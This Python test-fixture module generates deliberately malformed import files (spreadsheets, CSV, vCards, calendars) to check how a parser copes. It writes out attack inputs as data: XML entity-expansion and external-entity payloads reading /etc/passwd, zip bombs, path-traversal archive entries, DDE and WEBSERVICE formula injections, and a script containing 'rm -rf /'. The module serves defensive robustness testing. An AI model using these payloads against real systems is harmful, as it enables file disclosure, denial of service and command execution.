"""Files as nobody should send them, made anew for each run: cut short, swollen, lying about what they are."""

from __future__ import annotations

import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from functools import cache

import xlsxwriter

CSV = "Name;Land;Telefon;E-post\r\nSkarvøy Sjømat AS;Norge;75 52 10 00;kari@skarvoy.example\r\nİzmir Gıda;Türkiye;;\r\n"
CARD = "BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Kari Østbø\r\nORG:Skarvøy Sjømat AS\r\nTEL;TYPE=WORK:+47 75 52 10 00\r\nEND:VCARD\r\n"
CALENDAR = (
    "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//x//EN\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20260520T090000Z\r\n"
    "SUMMARY:Møte\r\nATTENDEE:mailto:kari@skarvoy.example\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)
Files = Iterator[tuple[str, bytes]]
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "ha ha ha ha">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>'
DTD = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/x.dtd">'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]>'


@cache
def workbook() -> bytes:
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet("Kunder")
        for place, line in enumerate(CSV.split("\r\n")):
            sheet.write_row(place, 0, line.split(";"))
    return out.getvalue()


def repacked(changes: dict[str, bytes | None], source: bytes | None = None) -> bytes:
    """The workbook with other parts; None takes one out."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(source or workbook())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        parts = {name: old.read(name) for name in old.namelist()} | changes
        for name, content in parts.items():
            if content is not None:
                new.writestr(name, content)
    return out.getvalue()


def with_sheet(rows: str, *, head: str = "", dimension: str = "A1:D3") -> bytes:
    sheet = f'<?xml version="1.0"?>{head}<worksheet {MAIN}><dimension ref="{dimension}"/><sheetData>{rows}</sheetData></worksheet>'
    return repacked({"xl/worksheets/sheet1.xml": sheet.encode()})


NAMES = '<row r="1"><c r="A1" t="inlineStr"><is><t>Name</t></is></c></row>'


def cut_short() -> Files:
    kinds = {"xlsx": workbook(), "csv": CSV.encode(), "vcf": CARD.encode() * 3, "ics": CALENDAR.encode()}
    for ending, whole in kinds.items():
        for share in (1, 3, 10, 25, 50, 75, 90, 97, 99):
            yield f"cut-{share}.{ending}", whole[: len(whole) * share // 100]
    yield "cut-in-quotes.csv", b'Name;Land\n"Skarv\n'
    yield "cut-in-letter.csv", CSV.encode()[:30] + "ø".encode()[:1]
    yield "cut-in-line-end.csv", CSV.encode()[:26]
    yield "cut-in-surrogate.csv", "Name;Land\nSkarv 🙂".encode("utf-16")[:-2]
    yield "without-its-list.xlsx", workbook()[: workbook().rindex(b"PK\x01\x02")]
    yield "only-its-end.xlsx", workbook()[workbook().rindex(b"PK\x05\x06") :]


def swollen() -> Files:
    """They unfold to far more than they are, or say so."""
    yield "bomb.xlsx", repacked({"xl/sharedStrings.xml": b"<sst>" + b"A" * 60_000_000})
    yield "bomb-sheet.xlsx", repacked({"xl/worksheets/sheet1.xml": b"<worksheet>" + b" " * 60_000_000})
    lying = bytearray(workbook())
    place = lying.rindex(b"PK\x01\x02")
    lying[place + 24 : place + 28] = struct.pack("<I", 0xFFFFFFF0)
    yield "says-four-gigabytes.xlsx", bytes(lying)
    lying[place + 24 : place + 28] = struct.pack("<I", 1)
    yield "says-one-byte.xlsx", bytes(lying)
    inner = workbook()
    for depth in range(1, 6):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("inner.xlsx", inner)
        inner = out.getvalue()
        yield f"nested-{depth}.xlsx", inner
    yield "nested.xlsx", repacked({"xl/worksheets/sheet1.xml": workbook()})
    yield "many-parts.xlsx", repacked({f"xl/media/{number}.png": b"" for number in range(6_000)})
    yield "ratio.csv", zlib.compress(b"0" * 10_000_000)
    yield "remark.xlsx", workbook()[:-2] + struct.pack("<H", 60_000) + b"x" * 60_000
    names = ("../../../evil.xml", "/etc/evil.xml", "xl\\..\\evil.xml", "xl/" + "a" * 3_000, "xl/workbook.xml ")
    for number, name in enumerate(names):
        yield f"part-{number}.xlsx", repacked({name: b"<x/>"})
    yield "part-nul.xlsx", workbook().replace(b"docProps/core.xml", b"docProps\x00core.xml")
    locked = bytearray(workbook())
    for sign, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        begin = -1
        while (begin := locked.find(sign, begin + 1)) >= 0:
            locked[begin + offset] |= 1
    yield "locked.xlsx", bytes(locked)
    odd = bytearray(workbook())
    begin = -1
    while (begin := odd.find(b"PK\x01\x02", begin + 1)) >= 0:
        odd[begin + 10 : begin + 12] = struct.pack("<H", 99)
    yield "unknown-packing.xlsx", bytes(odd)
    for share in (20, 40, 60, 80):
        spoilt = bytearray(workbook())
        middle = len(spoilt) * share // 100
        spoilt[middle : middle + 20] = bytes(20)
        yield f"spoilt-{share}.xlsx", bytes(spoilt)


def of_markup() -> Files:
    """Declarations, lies and endless depth in the parts of a workbook."""
    parts = ("xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/styles.xml",
             "xl/_rels/workbook.xml.rels")  # fmt: skip
    with zipfile.ZipFile(io.BytesIO(workbook())) as archive:
        whole = {name: archive.read(name).decode() for name in parts}
    heads = {"laughs": (LAUGHS, "&j;"), "outside": (OUTSIDE, "&j;"), "dtd": (DTD, ""), "parameter": (PARAMETER, "")}
    for place, (name, text) in enumerate(whole.items()):
        begin, middle, rest = text.partition("?>")
        for word, (head, used) in heads.items():
            inside = rest.replace(">Name<", f">{used}<") if used else rest
            yield f"{word}-{place}.xlsx", repacked({name: (begin + middle + head + inside).encode()})
        yield f"without-{place}.xlsx", repacked({name: None})
        yield f"empty-{place}.xlsx", repacked({name: b""})
        yield f"no-markup-{place}.xlsx", repacked({name: b"\x00\xff not markup"})
        yield f"wide-{place}.xlsx", repacked({name: (begin + middle + LAUGHS + rest).encode("utf-16")})
    yield "deep.xlsx", with_sheet(NAMES + "<row>" + "<c>" * 50_000)
    yield "attribute.xlsx", with_sheet(f'<row r="1" spans="{"1" * 3_000_000}"><c r="A1" t="str"><v>Name</v></c></row>')
    for number, place in enumerate(
        ("A0", "ZZZZZZZ1", "A99999999999", "", "1A", "A-1", "Å1", "XFD1048576", "a2", "AAA2")
    ):
        yield f"cell-{number}.xlsx", with_sheet(f'{NAMES}<row r="2"><c r="{place}" t="str"><v>Skarv</v></c></row>')
        yield f"cell-apostrophe-{number}.xlsx", with_sheet(f"{NAMES}<row><c r='{place}' t='str'><v>Skarv</v></c></row>")
    for number, line in enumerate(("-5", "0", "x", "99999999999", "1", "1048577", "1.5", "")):
        yield f"row-{number}.xlsx", with_sheet(f'{NAMES}<row r="{line}"><c t="str"><v>Skarv</v></c></row>')
    trick = """<c x=' r="A1"' r="XFD1048576" t="str"><v>far</v></c>"""
    yield "hidden-place.xlsx", with_sheet(f"{NAMES}<row>{trick}</row>")
    yield "spaced-place.xlsx", with_sheet(f'{NAMES}<row><c r = "XFD1048576" t="str"><v>far</v></c></row>')
    yield "prefixed-place.xlsx", with_sheet(f"{NAMES}<row><{'p' * 30}:c r='XFD1048576'><v>1</v></{'p' * 30}:c></row>")
    wide = (
        f'<?xml version="1.0" encoding="utf-16"?><worksheet {MAIN}><sheetData><row><c r="XFD1048576"><v>1</v></c></row>'
    )
    yield "wide-place.xlsx", repacked({"xl/worksheets/sheet1.xml": f"{wide}</sheetData></worksheet>".encode("utf-16")})
    texts = f'<sst {MAIN} count="99999999999" uniqueCount="99999999999"><si><t>Name</t></si></sst>'
    yield "counts.xlsx", repacked({"xl/sharedStrings.xml": texts.encode()})
    yield "apart.xlsx", with_sheet("<row r='1048576'><c r='XFD1048576' t='str'><v>far</v></c></row>" + NAMES)
    yield "dimension.xlsx", with_sheet(NAMES, dimension="A1:XFD1048576")
    for number, index in enumerate(("-1", "99999999", "x", "", "1e9", "NaN")):
        yield f"text-{number}.xlsx", with_sheet(f'{NAMES}<row r="2"><c r="A2" t="s"><v>{index}</v></c></row>')
    for number, value in enumerate(("1e308", "-1", "2958466", "NaN", "inf", "1e-320", "9" * 400, "-99999999")):
        yield f"day-{number}.xlsx", with_sheet(f'{NAMES}<row r="2"><c r="A2" s="1"><v>{value}</v></c></row>')
    circle = f"<sst {MAIN}><si><t>Name</t><si><t>a</t><si><t>b</t></si></si></si></sst>"
    yield "texts-in-a-circle.xlsx", repacked({"xl/sharedStrings.xml": circle.encode()})
    for number, target in enumerate(("workbook.xml", "../../etc/passwd", "", "worksheets/sheet1.xml/..", "http://x/")):
        relations = whole["xl/_rels/workbook.xml.rels"].replace("worksheets/sheet1.xml", target)
        yield f"relation-{number}.xlsx", repacked({"xl/_rels/workbook.xml.rels": relations.encode()})
    yield "macros.xlsm", repacked({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 500})
    yield "links.xlsx", repacked({"xl/externalLinks/externalLink1.xml": OUTSIDE.encode()})


def wide_and_long() -> Files:
    yield "ten-thousand-columns.csv", (";".join(f"c{n}" for n in range(10_000)) + "\n" + "1;" * 9_999 + "\n").encode()
    yield "ten-thousand-cells.csv", b"Name;Land\n" + b"x;" * 10_000 + b"\n"
    cells = "".join(f'<c t="str"><v>{n}</v></c>' for n in range(10_000))
    yield "ten-thousand-columns.xlsx", with_sheet(f"<row>{cells}</row>")
    yield "long-cell.csv", b"Name;Land\n" + b"x" * 1_000_000 + b";Norge\n"
    yield "long-cell-quoted.csv", b'Name;Land\n"' + b"x\n" * 500_000 + b'";Norge\n'
    yield "long-cell.xlsx", with_sheet(f'{NAMES}<row r="2"><c r="A2" t="str"><v>{"x" * 1_000_000}</v></c></row>')
    yield "long-header.csv", b"N" * 1_000_000 + b"\nx\n"
    yield "long-header-in-reach.csv", b"Name;" + b"N" * 5_000 + b"\nx;y\n"
    yield "one-line.csv", b"x" * 3_000_000
    yield "only-quotes.csv", b'"' * 500_001
    yield "quotes-in-quotes.csv", b'Name\n"' + b'""' * 200_000 + b'"\n'
    yield "only-delimiters.csv", b";" * 300_000
    yield "only-line-ends.csv", b"\r\n" * 300_000
    yield "many-empty.csv", b"Name;Land\n" + b";\n" * 100_000
    for number, header in enumerate(
        ("Name;" * 300, ";;;;;", "-;-;-", "Name", " ; ", "__proto__;constructor", "1;2;3", "=1+1;Name")
    ):
        yield f"headers-{number}.csv", f"{header}\nSkarv;x\n".encode()


def in_odd_letters() -> Files:
    text = "Navn;By\nSkarvøy Sjømat;Bodø\nПекарня;Пермь\n"
    for name in (
        "utf-16-le",
        "utf-16-be",
        "utf-32",
        "utf-7",
        "koi8-r",
        "cp437",
        "shift_jis",
        "gb18030",
        "cp037",
        "cp1251",
    ):
        yield f"letters-{name}.csv", text.encode(name, "replace")
    yield "letters-mixed.csv", "Navn\nBodø\n".encode() + "Tromsø\n".encode("cp1252") + "Ёлка\n".encode("cp1251")
    yield "letters-broken.csv", b"Navn;By\n\xff\xfe\xfd;\xc3\n\xed\xa0\x80;\xc0\xaf\n"
    yield "mark-twice.csv", b"\xef\xbb\xbf\xef\xbb\xbfNavn\nx\n"
    yield "mark-alone.csv", b"\xef\xbb\xbf"
    yield "mark-wide-alone.csv", b"\xff\xfe"
    yield "nul.csv", b"Navn;By\nSk\x00arv;Bod\x00\n"
    yield "nul-late.csv", b"Navn;By\n" + b"Skarv;Bergen\n" * 500 + b"a\x00b;\x00\n"
    yield "nul-alone.csv", b"\x00" * 5_000
    yield "nul.vcf", CARD.replace("Kari", "Ka\x00ri").encode()
    yield "nul.ics", CALENDAR.replace("Møte", "M\x00te").encode()
    yield "nul.xlsx", with_sheet(f'{NAMES}<row r="2"><c r="A2" t="str"><v>a_x0000_b_xFFFF__xD800_</v></c></row>')
    yield "controls.csv", b"Navn;By\nSk\x07arv;\x1b[31m\x08\n"
    yield "line-ends.csv", "Navn;By\rSkarv;Bodø\nYıldız;İzmir\r\nA;B\x0bC;D\x0cE;F\x85G;H\u2028I;J\n".encode()
    for number, name in enumerate(("\u202egnp.exe", "\u200b\u200b", "\u2066Skarv\u2069", "e\u0301" * 500, "Z" + "\u0335" * 5_000,
                                   "\ufdfa" * 90, "\U0001f468\u200d\U0001f469" * 60, "\ufeff", "\u00ad", "İ" * 190, "ß" * 199,
                                   "\U000e0041" * 50, "ﷺ" * 199, "𐀀" * 199)):  # fmt: skip
        yield f"signs-{number}.csv", f"Navn;By\n{name};x\n".encode()


def of_formulas() -> Files:
    for number, text in enumerate(FORMULAS):
        quoted = text.replace('"', '""')
        yield f"formula-{number}.csv", f'Navn,By\n"{quoted}","{quoted}"\n'.encode()
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        sheet = book.add_worksheet()
        sheet.write(0, 0, "Navn")
        for place, text in enumerate(FORMULAS, 1):
            sheet.write_formula(place, 0, "=" + text.lstrip("=+-@\t\r\n "), None, text)
            sheet.write_string(place, 1, text)
    yield "formulas.xlsx", out.getvalue()


FORMULAS = (
    "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", "\t=1+1", "\r=1+1",
    '=HYPERLINK("http://127.0.0.1/?x="&A1,"Look")', '=WEBSERVICE("http://127.0.0.1/")', "=1+1", "＝1+1", " =1+1",
    "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")", "\n=1+1", "-1+1", "=A1:A1048576", "'=1+1",
)  # fmt: skip


def of_days_and_sums() -> Files:
    for number, text in enumerate(("99999-99-99", "0000-00-00", "31.02.2026", "1e400", "NaN", "-0", "9" * 400, "5.60E+09",
                                   "1/0", "0x1F", "١٢٣", "²", "½", "1.2.3.4.5", "−5", "inf", "12:99")):  # fmt: skip
        yield f"value-{number}.csv", f"Name;Created;Amount;Phone;Country\nSkarv;{text};{text};{text};{text}\n".encode()


def of_another_kind() -> Files:
    old_office = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2_000
    page = b"<html><table><tr><td>Name</td></tr><tr><td>Skarv</td></tr></table></html>"
    open_sheet = io.BytesIO()
    with zipfile.ZipFile(open_sheet, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("content.xml", "<office/>")
    tar = io.BytesIO()
    with tarfile.open(fileobj=tar, mode="w:gz") as archive:
        archive.addfile(tarfile.TarInfo("../../evil"))
    letters = repacked({"word/document.xml": b"<w/>", "xl/workbook.xml": None})
    heads = {
        "old.xls": old_office, "locked-by-word.xlsx": old_office, "page.xls": page, "page.xlsx": page, "page.csv": page,
        "open.ods": open_sheet.getvalue(), "packed.csv": tar.getvalue(), "letter.docx": letters, "empty.csv": b"",
        "empty.xlsx": b"", "blank.csv": b" \r\n\t\r\n", "one.csv": b"x", "picture.csv": b"\x89PNG\r\n\x1a\n" + bytes(500),
        "letter.pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj", "letter.xlsx": b"%PDF-1.7\n1 0 obj<<>>endobj",
        "program.xlsx": b"MZ" + bytes(500), "program.csv": b"\x7fELF" + bytes(500), "text.rtf": b"{\\rtf1 Name}",
        "records.json": b'[{"Name": "Skarv"}]' * 50, "base.csv": b"SQLite format 3\x00" + bytes(500),
        "seven.7z": b"7z\xbc\xaf\x27\x1c" + bytes(50), "rar.csv": b"Rar!\x1a\x07\x00" + bytes(50), "pk.csv": b"PK",
        "books.xml": f'<?xml version="1.0"?>{LAUGHS}<Workbook>&j;</Workbook>'.encode(), "empty-zip.xlsx": b"PK\x05\x06" + bytes(18),
        "csv.xlsx": CSV.encode(), "xlsx.csv": workbook(), "card.csv": CARD.encode(), "table.vcf": CSV.encode(),
        "table.ics": CSV.encode(), "binary.xlsb": repacked({"xl/workbook.bin": b"\x83\x01", "xl/workbook.xml": None}),
        "mail.csv": b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=x\n\n--x\n", "script.csv": b"#!/bin/sh\nrm -rf /\n",
    }  # fmt: skip
    yield from heads.items()


def of_cards_and_calendars() -> Files:
    yield "cards-in-cards.vcf", b"BEGIN:VCARD\nFN:x\nAGENT:\n" * 10_000
    yield "cards-without-end.vcf", b"BEGIN:VCARD\nFN:x\n" * 10_000
    yield "ends.vcf", b"END:VCARD\n" * 10_000
    yield "folded.vcf", b"BEGIN:VCARD\nFN:x" + b"\n y" * 200_000 + b"\nEND:VCARD\n"
    yield "soft.vcf", b"BEGIN:VCARD\nFN;ENCODING=QUOTED-PRINTABLE:x" + b"=\n" * 200_000 + b"y\nEND:VCARD\n"
    yield "parameters.vcf", b"BEGIN:VCARD\nTEL" + b";TYPE=x" * 100_000 + b":1\nFN:x\nEND:VCARD\n"
    yield "quotes.vcf", b'BEGIN:VCARD\nTEL;TYPE="' + b'";"' * 5_000 + b":1\nFN:x\nEND:VCARD\n"
    yield "names.vcf", b"BEGIN:VCARD\nN:" + b";" * 50_000 + b"\nFN:x\nEND:VCARD\n"
    yield "charset.vcf", b"BEGIN:VCARD\nFN;CHARSET=zip:x\nORG;CHARSET=rot13:x\nNOTE;CHARSET=../x:\xff\nEND:VCARD\n"
    yield "picture.vcf", b"BEGIN:VCARD\nFN:x\nPHOTO;ENCODING=b:" + b"A" * 2_000_000 + b"\nEND:VCARD\n"
    yield "birthdays.vcf", b"BEGIN:VCARD\nFN:x\nBDAY:99999-99-99\nREV:x\nEND:VCARD\n"
    yield "nobody.vcf", b"BEGIN:VCARD\nEND:VCARD\n"
    yield "formula.vcf", b"BEGIN:VCARD\nFN:=cmd|'/C calc'!A0\nORG:@SUM(1)\nEND:VCARD\n"
    yield "deep.ics", b"BEGIN:VCALENDAR\n" + b"BEGIN:VEVENT\n" * 10_000
    yield "deep-and-back.ics", b"BEGIN:VCALENDAR\n" + b"BEGIN:X\n" * 10_000 + b"END:X\n" * 10_000 + b"END:VCALENDAR\n"
    yield (
        "folded.ics",
        b"BEGIN:VCALENDAR\nBEGIN:VEVENT\nSUMMARY:x" + b"\n y" * 200_000 + b"\nEND:VEVENT\nEND:VCALENDAR\n",
    )
    for number, day in enumerate(("99999999T999999Z", "00010101", "99991231T235959Z", "x", "20260230", "20260520T250000", "",
                                  "-20260520", "20260520T090000+0100")):  # fmt: skip
        yield f"day-{number}.ics", CALENDAR.replace("20260520T090000Z", day).encode()
    for number, rule in enumerate(("FREQ=SECONDLY", "FREQ=DAILY;INTERVAL=0", "FREQ=YEARLY;BYMONTH=2;BYMONTHDAY=31", "x",
                                   "FREQ=MINUTELY;COUNT=999999999", "FREQ=DAILY;UNTIL=99991231")):  # fmt: skip
        yield f"again-{number}.ics", CALENDAR.replace("SUMMARY", f"RRULE:{rule}\r\nSUMMARY").encode()
    zone = (
        "BEGIN:VTIMEZONE\nTZID:Moon\n"
        + "BEGIN:STANDARD\nDTSTART:16010101T000000\nTZOFFSETFROM:+9999\nTZOFFSETTO:x\nEND:STANDARD\n" * 500
    )
    yield (
        "zone.ics",
        CALENDAR.replace("BEGIN:VEVENT", f"{zone}END:VTIMEZONE\nBEGIN:VEVENT")
        .replace(":2026", ";TZID=Moon:2026")
        .encode(),
    )
    yield "zone-of-nowhere.ics", CALENDAR.replace("DTSTART:", "DTSTART;TZID=../../etc/passwd:").encode()
    yield (
        "attendees.ics",
        CALENDAR.replace("END:VEVENT", "ATTENDEE:mailto:a@b.example\r\n" * 20_000 + "END:VEVENT").encode(),
    )
    yield "mails.ics", CALENDAR.replace("mailto:kari@skarvoy.example", "mailto:" + "a" * 90_000 + "@x").encode()


def every_file() -> dict[str, bytes]:
    found: dict[str, bytes] = {}
    for kind in (cut_short, swollen, of_markup, wide_and_long, in_odd_letters, of_formulas, of_days_and_sums,
                 of_another_kind, of_cards_and_calendars):  # fmt: skip
        for name, content in kind():
            assert name not in found, name
            found[name] = content
    return found
